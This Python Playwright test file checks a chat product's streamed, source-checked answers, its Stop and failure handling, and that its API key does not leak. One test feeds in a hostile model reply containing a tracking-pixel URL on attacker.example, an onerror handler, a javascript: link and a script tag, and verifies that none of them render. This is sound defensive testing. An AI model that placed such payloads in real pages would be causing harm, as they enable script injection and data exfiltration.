"""An answer by a chat model on the page: seen as it is written, checked, stopped, and given without it if it fails."""

from __future__ import annotations

import re
import time
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import serving
from tests.chat.server import ChatServer, Say

pytestmark = pytest.mark.browser
pytest.importorskip("langchain_openai")
QUESTION = "Where did Yoon Suk Yeol speak on Armed Forces Day in 2024?"
TRUE = "Yoon Suk Yeol gave his address on 1 October 2024 at Seoul Air Base"
FALSE = "The parade was rained off and forty sailors were dismissed"
KEY = "sk-test-0nly-in-the-environment"
SOURCE = re.compile(r"^Source")
MINUTE = 60_000


def number_of(request: dict[str, Any], words: str) -> int:
    """The number of the first passage in a prompt that holds `words`."""
    prompt = request["messages"][-1]["content"]
    return int(re.findall(r"^\[(\d+)\] ", prompt[: prompt.index(words)], re.MULTILINE)[-1])


def slowly(request: dict[str, Any]) -> Say:
    """A true sentence and an invented one, a word at a time."""
    n = number_of(request, "Seoul Air Base")
    return Say(f"{TRUE} [{n}]. {FALSE} [{n}].", between_s=0.2, usage=(900, 1234))


@pytest.fixture(scope="module")
def model():
    with ChatServer() as server:
        yield server


@pytest.fixture(scope="module")
def chat(tmp_path_factory, model):
    """The address of the product with a chat model that says what each test tells it to."""
    settings = {
        "ASSISTANT_CHAT_MODEL": "openai:scripted",
        "ASSISTANT_CHAT_BASE_URL": model.url,
        "ASSISTANT_CHAT_RETRIES": "0",
        "ASSISTANT_CHAT_FIRST_TOKEN_S": "30",
        "ASSISTANT_CHAT_STALL_S": "2",
        "OPENAI_API_KEY": KEY,
    }
    folder = tmp_path_factory.mktemp("chat")
    with serving(folder, "app.py", **settings) as address:
        yield address
    assert KEY not in (folder / "server.log").read_text()


def ask(page, question: str = QUESTION) -> None:
    box = page.get_by_label("Question", exact=True)
    box.fill(question)
    box.press("Enter")


def answered(page, number: int = 0):
    turn = page.locator(".turn.answered").nth(number)
    turn.wait_for(timeout=MINUTE)
    return turn


def test_the_text_is_seen_while_it_is_written_and_then_the_checked_answer(visit, chat, model):
    model.script = [slowly]
    page = visit(chat)
    ask(page)
    draft = page.locator(".draft")
    expect(draft).to_contain_text("Yoon Suk Yeol", timeout=MINUTE)
    first = draft.inner_text()
    expect(page.get_by_text("Writing; not yet checked against the sources")).to_be_visible()
    assert page.get_by_role("log").get_by_role("button", name=SOURCE).count() == 0
    page.wait_for_function("n => (document.querySelector('.draft')?.innerText.length ?? 0) > n", arg=len(first))
    turn = answered(page)
    expect(page.locator(".draft")).to_have_count(0)
    expect(page.get_by_text("Writing; not yet checked")).to_have_count(0)
    true, false = turn.locator(".sentence").all()
    assert TRUE in true.inner_text().replace("\u00a0", " ") and true.locator(".doubt").count() == 0
    assert FALSE in false.inner_text()
    assert false.locator(".doubt").inner_text() == "not supported by a source"
    expect(turn.get_by_text(re.compile(r"Written by openai:scripted-1: 1,234 tokens in \d+(\.\d+)? s"))).to_be_visible()
    true.get_by_role("button", name=SOURCE).first.click()
    expect(page.locator("#source mark").first).to_contain_text("Seoul Air Base")


def test_what_is_weak_is_labelled_and_numbers_of_no_passage_are_told(visit, chat, model):
    model.script = [lambda request: Say(f"{TRUE} [{number_of(request, 'Seoul Air Base')}]. Here are the sources [77].")]
    page = visit(chat)
    ask(page)
    turn = answered(page)
    expect(turn.locator(".doubt")).to_have_text(["weakly supported"])
    expect(turn.locator(".notice", has_text="[77]")).to_be_visible()


def test_stop_ends_the_writing_at_the_model_and_another_question_can_be_asked(visit, chat, model):
    model.script = [Say("word " * 400, between_s=0.1), slowly]
    cut = model.cut_off
    page = visit(chat)
    ask(page)
    page.locator(".draft").wait_for(timeout=MINUTE)
    page.get_by_role("button", name="Stop", exact=True).click()
    page.locator(".turn.stopped").wait_for()
    page.wait_for_timeout(600)  # whatever was on its way when Stop was pressed has come
    assert (page.locator(".turn.stopped").count(), page.locator(".draft").count()) == (1, 0)
    until = time.monotonic() + 5
    while model.cut_off == cut and time.monotonic() < until:
        page.wait_for_timeout(100)
    assert model.cut_off == cut + 1
    ask(page)
    assert TRUE in answered(page).inner_text().replace("\u00a0", " ")
    assert page.locator(".turn").count() == 2


def test_a_conversation_begun_while_the_model_writes_is_not_written_into(visit, chat, model):
    model.script = [Say("word " * 400, between_s=0.01)]
    cut = model.cut_off
    page = visit(chat)
    ask(page)
    page.locator(".draft").wait_for(timeout=MINUTE)
    page.get_by_role("button", name="New conversation").click()
    page.locator(".example").first.wait_for()
    page.wait_for_timeout(600)
    assert (page.locator(".turn").count(), page.locator(".example").count() > 0) == (0, True)
    assert page.get_by_role("button", name="Ask", exact=True).is_visible()
    assert model.cut_off == cut + 1


@pytest.mark.parametrize(
    ("say", "why"),
    [
        (Say(status=500), "The server of openai:scripted failed (status 500)"),
        (Say(status=401), "did not accept the key"),
        (Say("One two three four five six", stall_after=3, stall_s=30.0), "fell silent in the midst of its reply"),
        (Say("One two three four five six", cut_after=3), "was cut"),
    ],
    ids=["fails", "refuses the key", "falls silent", "is cut"],
)
def test_where_the_model_fails_the_sources_answer_and_the_page_says_why(visit, chat, model, say, why):
    model.script = [say]
    page = visit(chat)
    ask(page)
    turn = answered(page)
    expect(turn.locator(".notice", has_text=why)).to_be_visible()
    expect(turn.locator(".notice", has_text="The answer is made of the sources' own sentences.")).to_be_visible()
    told = turn.inner_text()
    assert "Seoul Air Base" in told and turn.get_by_role("button", name=SOURCE).count()
    assert "One two" not in told and "Written by" not in told
    assert KEY not in page.content()


def test_what_the_model_writes_is_text_while_it_comes_and_afterwards(visit, chat, model):
    hostile = (
        "![p](https://pixel.attacker.example/p.png?d=nine) <img src=https://pixel.attacker.example/i "
        "onerror='window.ran=1'> [here](javascript:window.ran=1) <script>window.ran=1</script> and so on and on. "
    )
    model.script = [lambda r: Say(f"{hostile}{TRUE} [{number_of(r, 'Seoul Air Base')}].", between_s=0.15)]
    page = visit(chat)
    ask(page)
    expect(page.locator(".draft")).to_contain_text("<img src=", timeout=MINUTE)  # as words
    log = page.get_by_role("log")
    loaded = "img, script, iframe, svg, object, a[href*=attacker], a[href^=javascript]"
    assert log.locator(loaded).count() == 0
    turn = answered(page)
    assert log.locator(loaded).count() == 0
    assert "attacker.example" not in turn.inner_html()
    page.wait_for_timeout(300)
    assert not page.evaluate("'ran' in window")  # that nothing was asked of another host is looked at in the end


def test_the_key_is_on_no_page_and_no_address_serves_it(visit, chat, model):
    model.script = [slowly]
    page = visit(chat)
    ask(page)
    answered(page)
    assert KEY not in page.content()
    for path in ("/config", "/info", "/gradio_api/info"):
        assert KEY not in page.request.get(chat + path).text()
    assert model.headers[-1]["authorization"] == f"Bearer {KEY}"
